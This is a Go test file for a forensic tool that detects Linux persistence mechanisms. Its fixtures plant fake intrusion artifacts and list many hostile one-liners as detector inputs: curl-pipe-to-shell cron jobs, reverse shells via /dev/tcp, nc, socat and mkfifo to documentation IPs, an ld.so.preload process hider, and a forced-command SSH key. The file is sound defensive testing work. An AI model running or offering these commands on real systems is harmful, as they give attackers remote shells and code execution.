package collect

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hozen-dfir/hozen/artifact"
)

// persistTree builds a host tree: stock cron, systemd and profile files
// installed long ago, and an intrusion planted an hour before "now".
// The collection clock runs 30 days after the real one, so that the files'
// real ctimes (set by the kernel as the test writes them) look old too.
func persistTree(t *testing.T) (root string, now time.Time) {
	t.Helper()
	root = t.TempDir()
	now = time.Now().Add(30 * 24 * time.Hour).UTC()
	old := now.Add(-400 * 24 * time.Hour)
	planted := now.Add(-time.Hour)
	files := []struct {
		path, body string
		mtime      time.Time
	}{
		{"etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nmallory:x:1001:1001::/home/mallory:/bin/sh\n", old},
		{"etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", old},
		{"etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n", old},
		{"etc/cron.d/php", "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n", old},
		{"etc/cron.d/sysstat", "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n", old},
		{"etc/cron.d/health", "*/5 * * * * root curl -s https://example.com/health > /dev/null\n", old},
		{"etc/cron.d/0update", "# keep the system fresh\n*/5 * * * * root curl -fsSL http://203.0.113.9/u.sh | sh\n", planted},
		{"etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", old},
		// An upgrade an hour ago touched a whole directory: recent, but
		// no outlier, so not flagged.
		{"etc/cron.weekly/man-db", "#!/bin/sh\nexec /usr/bin/mandb --quiet\n", planted},
		{"etc/cron.weekly/apt-compat", "#!/bin/sh\nexec /usr/lib/apt/apt.systemd.daily\n", planted},
		{"etc/cron.weekly/dpkg", "#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n", planted},
		{"etc/ld.so.preload", "# preload\n/usr/local/lib/libprocesshider.so\n", old},
		{"etc/systemd/system/dbus-helper.service", "[Unit]\nDescription=helper\n[Service]\nExecStart=/dev/shm/.x -d\nRestart=always\n", old},
		{"usr/lib/systemd/system/ssh.service", "[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n", old},
		{"usr/lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron -f -P\n", old},
		{"etc/profile", "if [ \"$PS1\" ]; then\n  PS1='$ '\nfi\n", old},
		{"home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOld alice@laptop\ncommand=\"/bin/sh -c 'sh -i'\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINew x@y\n", planted},
		{"home/alice/.bashrc", "alias ll='ls -l'\n", old},
		{"srv/m/.bashrc", "alias ls='ls --color'\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1 &\n", old},
	}
	for _, f := range files {
		p := filepath.Join(root, f.path)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(f.body), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chtimes(p, f.mtime, f.mtime); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		"lib":                "usr/lib",     // merged /usr: one directory, read once
		"home/mallory":       "/srv/m",      // absolute: resolved inside the root
		"etc/cron.d/shadowy": "/etc/shadow", // a link in a file's place: listed, not read
	} {
		if err := os.Symlink(target, filepath.Join(root, link)); err != nil {
			t.Fatal(err)
		}
	}
	return root, now
}

func TestPersistenceFixtureTree(t *testing.T) {
	root, now := persistTree(t)
	env := &Env{Root: root, Now: func() time.Time { return now }}
	var sink recSink
	if _, err := Run(context.Background(), env, []Collector{&Persistence{}}, &sink); err != nil {
		t.Fatal(err)
	}
	var doc artifact.Persistence
	if err := json.Unmarshal(sink.data[artifact.PathPersistence], &doc); err != nil {
		t.Fatal(err)
	}
	var fd artifact.Findings
	if err := json.Unmarshal(sink.data[artifact.PathFindings], &fd); err != nil {
		t.Fatal(err)
	}
	byPath := map[string]artifact.PersistenceEntry{}
	for _, e := range doc.Entries {
		if _, dup := byPath[string(e.Path)]; dup {
			t.Errorf("%s listed twice", e.Path)
		}
		byPath[string(e.Path)] = e
	}
	type key struct{ rule, path, sev string }
	got := map[key]bool{}
	for _, f := range fd.Findings {
		got[key{f.Rule, string(f.Path), f.Severity}] = true
		if len(f.Evidence) == 0 || !strings.HasPrefix(f.Evidence[0], artifact.PathPersistence+"#path=") {
			t.Errorf("%s %s: evidence %q", f.Rule, f.Path, f.Evidence)
		}
	}
	for _, want := range []key{
		{"persistence-download-exec", "/etc/cron.d/0update", "high"},
		{"persistence-recent", "/etc/cron.d/0update", "high"}, // an outlier in its directory
		{"ld-so-preload", "/etc/ld.so.preload", "high"},
		{"unit-exec-tmp", "/etc/systemd/system/dbus-helper.service", "high"},
		{"authorized-keys-recent", "/home/alice/.ssh/authorized_keys", "high"},
		{"authorized-keys-options", "/home/alice/.ssh/authorized_keys", "medium"},
		{"persistence-download-exec", "/srv/m/.bashrc", "high"}, // /home/mallory -> /srv/m, inside the root
	} {
		if !got[want] {
			t.Errorf("no finding %+v; findings:\n%s", want, findingLines(fd.Findings))
		}
	}
	if len(fd.Findings) != 7 {
		t.Errorf("%d findings, want 7 (stock entries flagged?):\n%s", len(fd.Findings), findingLines(fd.Findings))
	}
	for _, r := range persistenceRuleIDs {
		if !slices.Contains(fd.Rules, r) {
			t.Errorf("rule %s not on record as run", r)
		}
	}
	// Flagged entries first, then the rest; the stock ones carry their lines.
	if doc.Flagged != 5 {
		t.Errorf("flagged %d entries, want 5", doc.Flagged)
	}
	for i, e := range doc.Entries {
		if (i < doc.Flagged) != (len(e.Flags) > 0) {
			t.Errorf("entry %d %s flags %v: flagged entries are not first", i, e.Path, e.Flags)
		}
	}
	if e := byPath["/usr/lib/systemd/system/ssh.service"]; len(e.Lines) != 2 || !strings.HasPrefix(string(e.Lines[1].Text), "ExecStart=/usr/sbin/sshd") {
		t.Errorf("ssh.service lines %+v, want its two Exec lines", e.Lines)
	}
	if _, ok := byPath["/lib/systemd/system/ssh.service"]; ok {
		t.Errorf("/lib/systemd/system read besides /usr/lib/systemd/system")
	}
	if e := byPath["/etc/cron.d/shadowy"]; len(e.Lines) != 1 || e.Lines[0].Text != "-> /etc/shadow" {
		t.Errorf("link entry %+v, want its target and nothing read", e)
	}
	if e := byPath["/etc/profile"]; len(e.Lines) != 0 {
		t.Errorf("/etc/profile lines %+v: a script keeps only flagged lines", e.Lines)
	}
	if e := byPath["/etc/cron.d/0update"]; e.DirMedian == nil || len(e.Lines) != 1 || e.Lines[0].N != 2 || e.Lines[0].Flag == "" {
		t.Errorf("0update: %+v", e)
	}
}

// TestPersistenceBounds: the entry bound stops the listing and says so.
func TestPersistenceBounds(t *testing.T) {
	root, now := persistTree(t)
	env := &Env{Root: root, Now: func() time.Time { return now }}
	doc := (&Persistence{MaxEntries: 3, MaxFileBytes: 16}).read(context.Background(), env)
	if doc.Count != 3 || len(doc.Limits) != 1 || !strings.Contains(doc.Limits[0], "3 entries") {
		t.Errorf("count %d limits %q", doc.Count, doc.Limits)
	}
	for _, e := range doc.Entries {
		if e.Size > 16 && !e.Truncated {
			t.Errorf("%s: %d bytes, read whole past the 16-byte bound", e.Path, e.Size)
		}
	}
}

func findingLines(fs []artifact.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString(f.Severity + " " + f.Rule + " " + string(f.Path) + ": " + f.Reason + "\n")
	}
	return b.String()
}

func TestDownloadExec(t *testing.T) {
	for _, c := range []struct {
		line string
		want bool
	}{
		{"*/5 * * * * root curl -fsSL http://x/u.sh | sh", true},
		{"wget -q -O- http://x/a | bash -s", true},
		{"curl http://x | sudo /bin/bash", true},
		{"curl -s http://x/p.py | python3 -", true},
		{`sh -c "$(curl -fsSL http://x/i)"`, true},
		{"bash <(wget -qO- http://x)", true},
		{"wget http://x/k -O /tmp/k; chmod +x /tmp/k; /tmp/k", true},
		{"echo aGVsbG8K | base64 -d | sh", true},
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true},
		{`python3 -c 'import socket,subprocess,os;s=socket.socket()'`, true},
		{"nc -e /bin/sh 10.0.0.1 4444", true},
		{"ncat 10.0.0.1 4444 --exec /bin/bash", true},
		{"socat tcp:10.0.0.1:4444 exec:/bin/sh", true},
		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", true},
		{"curl -s https://example.com/health > /dev/null", false},
		{"30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", false},
		{"5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1", false},
		{"[ -x /usr/bin/shellcheck ] && echo ok | tee /tmp/log", false},
		{"python3 -c 'print(1)'", false},
	} {
		if got := downloadExec([]byte(c.line)); got != c.want {
			t.Errorf("downloadExec(%q) = %v, want %v", c.line, got, c.want)
		}
	}
}
